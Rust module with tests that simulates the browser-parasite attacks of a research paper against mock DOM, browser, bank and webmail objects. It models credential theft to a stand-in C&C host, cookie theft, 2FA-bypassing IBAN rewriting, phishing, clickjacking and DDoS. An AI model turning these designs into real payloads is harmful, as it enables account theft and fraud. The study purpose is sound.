//! Application attacks carried out by the parasites (paper §VII, Table V).
//!
//! Every row of Table V is represented by an attack module. Modules operate
//! on the simulated substrates — the victim [`Browser`], the page [`Dom`]s of
//! the victim applications from `mp-apps`, and the master's [`CncServer`] —
//! and report whether they succeeded and what evidence they produced
//! (exfiltrated credentials, executed rogue transfers, sent phishing, ...).

use crate::cnc::{encode_upstream, CncServer};
use mp_apps::banking::{BankingApp, TransferOutcome};
use mp_apps::webmail::WebMailApp;
use mp_browser::browser::Browser;
use mp_browser::dom::Dom;
use mp_httpsim::url::Url;

/// Security property the attack violates (the C/I/A column of Table V).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SecurityProperty {
    /// Confidentiality.
    Confidentiality,
    /// Integrity.
    Integrity,
    /// Availability.
    Availability,
}

/// Result of running one attack module.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackReport {
    /// Attack name (Table V row).
    pub name: String,
    /// Property violated.
    pub property: SecurityProperty,
    /// Targets attacked.
    pub target: String,
    /// Whether the attack achieved its goal.
    pub succeeded: bool,
    /// Whether the row's stated requirements were met in this run.
    pub requirements_met: bool,
    /// Human-readable evidence (what was stolen / manipulated / sent).
    pub evidence: Vec<String>,
}

impl AttackReport {
    fn new(name: &str, property: SecurityProperty, target: &str) -> Self {
        AttackReport {
            name: name.to_string(),
            property,
            target: target.to_string(),
            succeeded: false,
            requirements_met: true,
            evidence: Vec::new(),
        }
    }
}

/// Steal login data by hooking the login form's submit event and exfiltrating
/// the captured fields over the C&C channel (Table V row 1).
///
/// `dom` is the login page the parasite runs on; the caller simulates the user
/// typing and submitting. The credentials travel to the master encoded in an
/// image URL.
pub fn steal_login_data(dom: &Dom, cnc: &mut CncServer, campaign: &str) -> AttackReport {
    let mut report = AttackReport::new(
        "Steal Login Data",
        SecurityProperty::Confidentiality,
        &dom.url.host,
    );
    for submission in dom.submissions() {
        let serialized = submission
            .fields
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("&");
        let exfil_url = encode_upstream(&cnc.host.clone(), campaign, serialized.as_bytes());
        if cnc.receive_upstream(&exfil_url) {
            report.succeeded = true;
            report.evidence.push(serialized);
        }
    }
    report
}

/// Show a fake login overlay when the user is already logged in (the
/// complementary half of row 1: "if the user is logged in we show him a fake
/// login form in the DOM").
pub fn fake_login_overlay(dom: &mut Dom) -> AttackReport {
    let mut report = AttackReport::new("Fake Login Overlay", SecurityProperty::Confidentiality, &dom.url.host);
    let form = dom.add_script_element("form", &[("id", "session-expired-login"), ("action", "/relogin")], "");
    dom.add_script_element("div", &[("class", "overlay")], "Your session expired, please sign in again");
    // Rebind the overlay's inputs to the injected form so a submit captures them.
    let user = dom.add_script_element("input", &[("name", "username"), ("type", "text"), ("value", "")], "");
    let pass = dom.add_script_element("input", &[("name", "password"), ("type", "password"), ("value", "")], "");
    report.succeeded = dom.element(form).is_some() && dom.element(user).is_some() && dom.element(pass).is_some();
    report.evidence.push("overlay elements inserted by script".into());
    report
}

/// Read browser data: cookies (non-HttpOnly) and local storage of the current
/// origin, exfiltrated over C&C (Table V "Browser Data").
pub fn read_browser_data(
    browser: &Browser,
    page_url: &Url,
    cnc: &mut CncServer,
    campaign: &str,
) -> AttackReport {
    let mut report = AttackReport::new("Browser Data", SecurityProperty::Confidentiality, &page_url.host);
    let origin = page_url.origin().to_string();
    let mut collected = Vec::new();
    for cookie in browser.cookies().script_visible(page_url, browser.now()) {
        collected.push(format!("cookie:{cookie}"));
    }
    for (key, value) in browser.storage().dump_origin(&origin) {
        collected.push(format!("localStorage:{key}={value}"));
    }
    if !collected.is_empty() {
        let blob = collected.join(";");
        let url = encode_upstream(&cnc.host.clone(), campaign, blob.as_bytes());
        report.succeeded = cnc.receive_upstream(&url);
        report.evidence = collected;
    }
    report
}

/// Capture protected personal data (geolocation, microphone, webcam) via the
/// browser API. Requires an authorisation previously granted to the attacked
/// domain (Table V "Personal Browser Data" requirements column).
pub fn capture_personal_data(domain_has_permission: bool, page_url: &Url) -> AttackReport {
    let mut report = AttackReport::new(
        "Personal Browser Data",
        SecurityProperty::Confidentiality,
        &page_url.host,
    );
    report.requirements_met = domain_has_permission;
    report.succeeded = domain_has_permission;
    if domain_has_permission {
        report.evidence.push("microphone capture started via mediaDevices".into());
    }
    report
}

/// Read application data out of the DOM: financial status, chats, emails
/// (Table V "Website Data").
pub fn read_website_data(dom: &Dom, cnc: &mut CncServer, campaign: &str) -> AttackReport {
    let mut report = AttackReport::new("Website Data", SecurityProperty::Confidentiality, &dom.url.host);
    let text = dom.visible_text();
    if !text.is_empty() {
        let url = encode_upstream(&cnc.host.clone(), campaign, text.as_bytes());
        report.succeeded = cnc.receive_upstream(&url);
        report.evidence.push(text);
    }
    report
}

/// Cross-tab side channel: two parasites on different tabs of the same
/// machine communicate through a shared-resource timing channel. Modelled as
/// message passing through the shared C&C state (Table V "Side Channels").
pub fn cross_tab_side_channel(cnc: &mut CncServer, campaign: &str, message: &[u8]) -> AttackReport {
    let mut report = AttackReport::new("Side Channels", SecurityProperty::Confidentiality, "browser tabs");
    let url = encode_upstream(&cnc.host.clone(), campaign, message);
    report.succeeded = cnc.receive_upstream(&url);
    report.evidence.push(format!("{} bytes relayed between tabs", message.len()));
    report
}

/// Circumvent two-factor authentication / manipulate a bank transfer
/// (Table V rows "Circumvent Two Factor Authentication" and "Transaction
/// Manipulation").
///
/// The parasite lets the user believe they transfer `user_intended_iban`, but
/// rewrites the form field to the attacker's IBAN before submission. The OTP
/// the user then enters authorises the manipulated transfer — unless the bank
/// uses out-of-band detail confirmation.
pub fn manipulate_bank_transfer(
    bank: &mut BankingApp,
    session: &str,
    user_intended_iban: &str,
    attacker_iban: &str,
    amount_eur: &str,
) -> AttackReport {
    let mut report = AttackReport::new(
        "Transaction Manipulation / 2FA Bypass",
        SecurityProperty::Integrity,
        &bank.host.clone(),
    );
    report.requirements_met = !bank.out_of_band_confirmation;

    let Some((mut dom, form)) = bank.account_dom(session) else {
        report.evidence.push("no authenticated session".into());
        return report;
    };
    let iban_field = dom.by_name("beneficiary_iban").expect("transfer form has beneficiary").id;
    let amount_field = dom.by_name("amount_eur").expect("transfer form has amount").id;

    // The user types their intended beneficiary...
    dom.set_attr(iban_field, "value", user_intended_iban);
    dom.set_attr(amount_field, "value", amount_eur);
    // ...and the parasite rewrites it just before the submit event fires.
    dom.set_attr(iban_field, "value", attacker_iban);
    let submission = dom.submit_form(form).expect("form exists");

    match bank.submit_transfer(session, &submission) {
        TransferOutcome::OtpRequired { pending_id } => {
            // The user reads the OTP off their second factor. Whether they
            // notice the beneficiary depends on the out-of-band defence.
            let display = bank.second_factor_display(pending_id).unwrap_or_default();
            let otp = display
                .split_whitespace()
                .nth(1)
                .unwrap_or_default()
                .to_string();
            match bank.confirm_otp(pending_id, &otp, user_intended_iban) {
                TransferOutcome::Executed => {
                    report.succeeded = true;
                    report
                        .evidence
                        .push(format!("transfer of {amount_eur} EUR redirected to {attacker_iban}"));
                }
                other => report.evidence.push(format!("confirmation failed: {other:?}")),
            }
        }
        TransferOutcome::Executed => {
            report.succeeded = true;
            report.evidence.push("transfer executed without OTP".into());
        }
        TransferOutcome::Rejected { reason } => report.evidence.push(reason),
    }
    report
}

/// Send personalised phishing from the victim's own web-mail account
/// (Table V "Send Phishing"). Requires the application tab to be open.
pub fn send_phishing_via_webmail(mail: &mut WebMailApp, session: &str, tab_open: bool) -> AttackReport {
    let mut report = AttackReport::new("Send Phishing (webmail)", SecurityProperty::Integrity, &mail.host.clone());
    report.requirements_met = tab_open;
    if !tab_open {
        report.evidence.push("webmail tab not open".into());
        return report;
    }
    let contacts = mail.contacts(session);
    // Harvest context from the inbox for personalisation.
    let context = mail
        .inbox_dom(session)
        .map(|dom| dom.visible_text())
        .unwrap_or_default();
    let mut sent = 0;
    for contact in &contacts {
        let body = format!(
            "Hi {contact}, please review the attached invoice — re: {}",
            context.lines().next().unwrap_or("our last conversation")
        );
        if mail.send_email(session, contact, "Invoice reminder", &body) {
            sent += 1;
        }
    }
    report.succeeded = sent > 0 && sent == contacts.len();
    report.evidence.push(format!("{sent} personalised phishing mails sent"));
    report
}

/// Steal computation resources (crypto-currency mining, hash cracking,
/// distributed scraping). Modelled as work units executed per browsing second.
pub fn steal_computation(work_units: u32) -> AttackReport {
    let mut report = AttackReport::new("Steal Computation Resources", SecurityProperty::Integrity, "victim CPU/GPU");
    // Simulate the mining loop: a deterministic hash-like workload.
    let mut accumulator: u64 = 0x9E3779B97F4A7C15;
    for unit in 0..work_units {
        accumulator = accumulator
            .wrapping_mul(6364136223846793005)
            .wrapping_add(unit as u64);
    }
    report.succeeded = work_units > 0;
    report.evidence.push(format!("{work_units} work units completed (state {accumulator:#x})"));
    report
}

/// Click-jacking: overlay invisible elements over a non-infected site loaded
/// in the victim's browser.
pub fn clickjacking(dom: &mut Dom, target_description: &str) -> AttackReport {
    let mut report = AttackReport::new("Click Jacking", SecurityProperty::Integrity, target_description);
    dom.add_script_element(
        "div",
        &[("style", "opacity:0;position:absolute;top:0;left:0;width:100%;height:100%"), ("id", "clickjack-overlay")],
        "",
    );
    report.succeeded = dom.script_inserted().iter().any(|e| e.attr("id") == Some("clickjack-overlay"));
    report.evidence.push("transparent overlay covering the page".into());
    report
}

/// Ad injection into pages the victim visits.
pub fn ad_injection(dom: &mut Dom, ad_count: usize) -> AttackReport {
    let mut report = AttackReport::new("Ad Injection", SecurityProperty::Availability, &dom.url.host);
    for i in 0..ad_count {
        dom.add_script_element(
            "iframe",
            &[("src", &format!("http://ads.attacker.example/slot{i}")), ("class", "injected-ad")],
            "",
        );
    }
    report.succeeded = dom
        .script_inserted()
        .iter()
        .filter(|e| e.attr("class") == Some("injected-ad"))
        .count()
        == ad_count
        && ad_count > 0;
    report.evidence.push(format!("{ad_count} ad slots injected"));
    report
}

/// Browser-based DDoS: the parasite makes every infected browser issue
/// `requests_per_bot` requests against the target.
pub fn browser_ddos(bot_count: usize, requests_per_bot: usize, target: &str) -> AttackReport {
    let mut report = AttackReport::new("DDoS", SecurityProperty::Availability, target);
    let total = bot_count * requests_per_bot;
    report.succeeded = total > 0;
    report.evidence.push(format!("{total} requests aimed at {target} from {bot_count} bots"));
    report
}

/// Internal-network reconnaissance via WebRTC/WebSocket probing: the parasite
/// learns the victim's internal address and fingerprints reachable devices.
pub fn internal_network_recon(internal_hosts: &[(&str, bool)]) -> AttackReport {
    let mut report = AttackReport::new(
        "Attack Insecure Routers and internal IoT Devices",
        SecurityProperty::Integrity,
        "victim internal network",
    );
    let discovered: Vec<String> = internal_hosts
        .iter()
        .filter(|(_, reachable)| *reachable)
        .map(|(host, _)| host.to_string())
        .collect();
    report.succeeded = !discovered.is_empty();
    report.evidence = discovered;
    report
}

/// Low-level exploit loaders (CPU-cache/Spectre timing, Rowhammer, 0-day on
/// demand). The parasite's role is only to *deliver and launch* the exploit
/// JavaScript; success depends on the platform lacking mitigations, which the
/// caller states.
pub fn low_level_exploit(name: &str, platform_vulnerable: bool) -> AttackReport {
    let mut report = AttackReport::new(name, SecurityProperty::Confidentiality, "victim OS / hardware");
    report.requirements_met = platform_vulnerable;
    report.succeeded = platform_vulnerable;
    report.evidence.push(if platform_vulnerable {
        "exploit payload delivered and executed".to_string()
    } else {
        "payload delivered; platform mitigations blocked exploitation".to_string()
    });
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_apps::banking::BankingApp;

    fn cnc() -> CncServer {
        CncServer::new("master.attacker.example")
    }

    fn bank_session(bank: &mut BankingApp) -> String {
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        let submission = dom.submit_form(form).unwrap();
        bank.login(&submission).unwrap()
    }

    #[test]
    fn login_theft_captures_submitted_credentials() {
        let bank = BankingApp::default();
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        dom.submit_form(form).unwrap();

        let mut server = cnc();
        let report = steal_login_data(&dom, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(report.evidence[0].contains("password=correct-horse"));
        let exfil = String::from_utf8(server.exfiltrated()[0].data.clone()).unwrap();
        assert!(exfil.contains("username=alice"));
    }

    #[test]
    fn two_factor_bypass_succeeds_without_out_of_band_confirmation() {
        let mut bank = BankingApp::default();
        let session = bank_session(&mut bank);
        let report = manipulate_bank_transfer(
            &mut bank,
            &session,
            "FR76 3000 6000 0112 3456 7890 189",
            "GB29 ATTACKER 0000 0000 0000 00",
            "480.00",
        );
        assert!(report.succeeded, "{report:?}");
        assert_eq!(bank.executed_transfers()[0].beneficiary_iban, "GB29 ATTACKER 0000 0000 0000 00");
    }

    #[test]
    fn out_of_band_confirmation_defeats_the_manipulation() {
        let mut bank = BankingApp::new("bank.example").with_out_of_band_confirmation();
        let session = bank_session(&mut bank);
        let report = manipulate_bank_transfer(
            &mut bank,
            &session,
            "FR76 3000 6000 0112 3456 7890 189",
            "GB29 ATTACKER 0000 0000 0000 00",
            "480.00",
        );
        assert!(!report.succeeded);
        assert!(!report.requirements_met);
        assert!(bank.executed_transfers().is_empty());
    }

    #[test]
    fn phishing_requires_an_open_tab_and_reaches_all_contacts() {
        let mut mail = WebMailApp::default();
        let (mut dom, form) = mail.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "mail-pass-123");
        let session = mail.login(&dom.submit_form(form).unwrap()).unwrap();

        let blocked = send_phishing_via_webmail(&mut mail, &session, false);
        assert!(!blocked.succeeded && !blocked.requirements_met);

        let report = send_phishing_via_webmail(&mut mail, &session, true);
        assert!(report.succeeded);
        assert_eq!(mail.mailbox("alice@mail.example").unwrap().sent.len(), 3);
        // The phishing is personalised from harvested inbox content.
        assert!(mail.mailbox("alice@mail.example").unwrap().sent[0].body.contains("re:"));
    }

    #[test]
    fn dom_and_browser_data_exfiltration() {
        use mp_browser::profile::BrowserProfile;
        use mp_httpsim::transport::Internet;

        let mut mail = WebMailApp::default();
        let (mut dom, form) = mail.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "mail-pass-123");
        let session = mail.login(&dom.submit_form(form).unwrap()).unwrap();
        let inbox = mail.inbox_dom(&session).unwrap();

        let mut server = cnc();
        let report = read_website_data(&inbox, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(String::from_utf8_lossy(&server.exfiltrated()[0].data).contains("invoice"));

        let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
        let page = Url::parse("https://mail.example/inbox").unwrap();
        browser.cookies_mut().set_from_header("theme=dark", &page, 0);
        browser.storage_mut().set_item(&page.origin().to_string(), "draft", "call the bank tomorrow");
        let report = read_browser_data(&browser, &page, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(report.evidence.iter().any(|e| e.contains("theme=dark")));
        assert!(report.evidence.iter().any(|e| e.contains("draft")));
    }

    #[test]
    fn availability_and_misc_modules_report_sensibly() {
        let mut dom = Dom::new(Url::parse("http://news.example/").unwrap());
        assert!(clickjacking(&mut dom, "news.example").succeeded);
        assert!(ad_injection(&mut dom, 3).succeeded);
        assert!(!ad_injection(&mut dom, 0).succeeded);
        assert!(browser_ddos(100, 50, "victim.example").succeeded);
        assert!(steal_computation(1000).succeeded);
        assert!(!steal_computation(0).succeeded);
        let recon = internal_network_recon(&[("192.168.0.1 (router)", true), ("192.168.0.42 (camera)", true), ("192.168.0.77", false)]);
        assert!(recon.succeeded);
        assert_eq!(recon.evidence.len(), 2);
        assert!(low_level_exploit("Rowhammer", true).succeeded);
        assert!(!low_level_exploit("JS CPU Cache & Spectre", false).succeeded);
        assert!(capture_personal_data(true, &Url::parse("https://conference.example/").unwrap()).succeeded);
        assert!(!capture_personal_data(false, &Url::parse("https://conference.example/").unwrap()).succeeded);
        let mut server = cnc();
        assert!(cross_tab_side_channel(&mut server, "campaign-0", b"tab1->tab2").succeeded);
    }

    #[test]
    fn fake_login_and_module_mapping() {
        let mut dom = Dom::new(Url::parse("https://social.example/feed").unwrap());
        let report = fake_login_overlay(&mut dom);
        assert!(report.succeeded);
        assert!(dom.script_inserted().len() >= 3);
    }

    #[test]
    fn login_theft_fails_without_a_captured_submission() {
        // The parasite hooked the submit event, but the user never submitted:
        // nothing to steal, nothing on the wire.
        let bank = BankingApp::default();
        let (dom, _form) = bank.login_dom();
        let mut server = cnc();
        let report = steal_login_data(&dom, &mut server, "campaign-0");
        assert!(!report.succeeded);
        assert!(report.evidence.is_empty());
        assert!(server.exfiltrated().is_empty());
    }

    #[test]
    fn side_channel_delivers_the_exact_message_bytes() {
        let mut server = cnc();
        let message = b"window-a: otp=831245";
        let report = cross_tab_side_channel(&mut server, "campaign-7", message);
        assert!(report.succeeded);
        assert_eq!(server.exfiltrated().len(), 1);
        assert_eq!(server.exfiltrated()[0].data, message);
        assert_eq!(server.exfiltrated()[0].campaign, "campaign-7");
    }

    #[test]
    fn empty_browser_state_yields_no_exfiltration() {
        use mp_browser::profile::BrowserProfile;
        use mp_httpsim::transport::Internet;

        let browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
        let page = Url::parse("https://fresh.example/").unwrap();
        let mut server = cnc();
        let report = read_browser_data(&browser, &page, &mut server, "campaign-0");
        assert!(!report.succeeded);
        assert!(server.exfiltrated().is_empty());
    }

    /// Uniform invariants every attack module must uphold: a success implies
    /// its requirements were met, and a success carries evidence.
    #[test]
    fn every_report_upholds_the_success_and_mapping_invariants() {
        let mut server = cnc();
        let mut dom = Dom::new(Url::parse("http://news.example/").unwrap());
        let page = Url::parse("https://bank.example/account").unwrap();
        let mut bank = BankingApp::default();
        let session = bank_session(&mut bank);
        let mut defended = BankingApp::new("bank.example").with_out_of_band_confirmation();
        let defended_session = bank_session(&mut defended);
        let mut mail = WebMailApp::default();

        let reports = vec![
            steal_login_data(&dom, &mut server, "campaign-0"),
            fake_login_overlay(&mut dom),
            capture_personal_data(true, &page),
            capture_personal_data(false, &page),
            cross_tab_side_channel(&mut server, "campaign-0", b"sync"),
            send_phishing_via_webmail(&mut mail, "bogus-session", true),
            send_phishing_via_webmail(&mut mail, "bogus-session", false),
            manipulate_bank_transfer(&mut bank, &session, "FR76 1", "GB29 2", "10.00"),
            manipulate_bank_transfer(&mut defended, &defended_session, "FR76 1", "GB29 2", "10.00"),
            steal_computation(100),
            steal_computation(0),
            clickjacking(&mut dom, "news.example"),
            ad_injection(&mut dom, 2),
            browser_ddos(10, 10, "victim.example"),
            browser_ddos(0, 0, "victim.example"),
            internal_network_recon(&[("192.168.0.1", true)]),
            internal_network_recon(&[("192.168.0.1", false)]),
            low_level_exploit("Rowhammer", true),
            low_level_exploit("Rowhammer", false),
        ];
        for report in &reports {
            if report.succeeded {
                assert!(
                    report.requirements_met,
                    "{}: succeeded although its requirements were not met",
                    report.name
                );
                assert!(!report.evidence.is_empty(), "{}: success without evidence", report.name);
            }
        }
    }
}
